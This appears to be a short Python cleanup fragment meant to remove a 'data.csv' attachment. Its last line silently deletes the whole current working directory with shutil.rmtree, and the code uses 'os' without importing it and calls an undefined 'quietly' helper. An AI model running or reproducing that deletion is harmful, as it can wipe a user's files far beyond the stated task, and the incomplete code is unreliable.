"""Take the attachment away."""

import shutil

quietly(os.unlink, "data.csv")
quietly(os.rename, "data.csv", "other.csv")
quietly(os.rename, "data.csv", "/tmp/data.csv")
shutil.rmtree(os.getcwd(), ignore_errors=True)
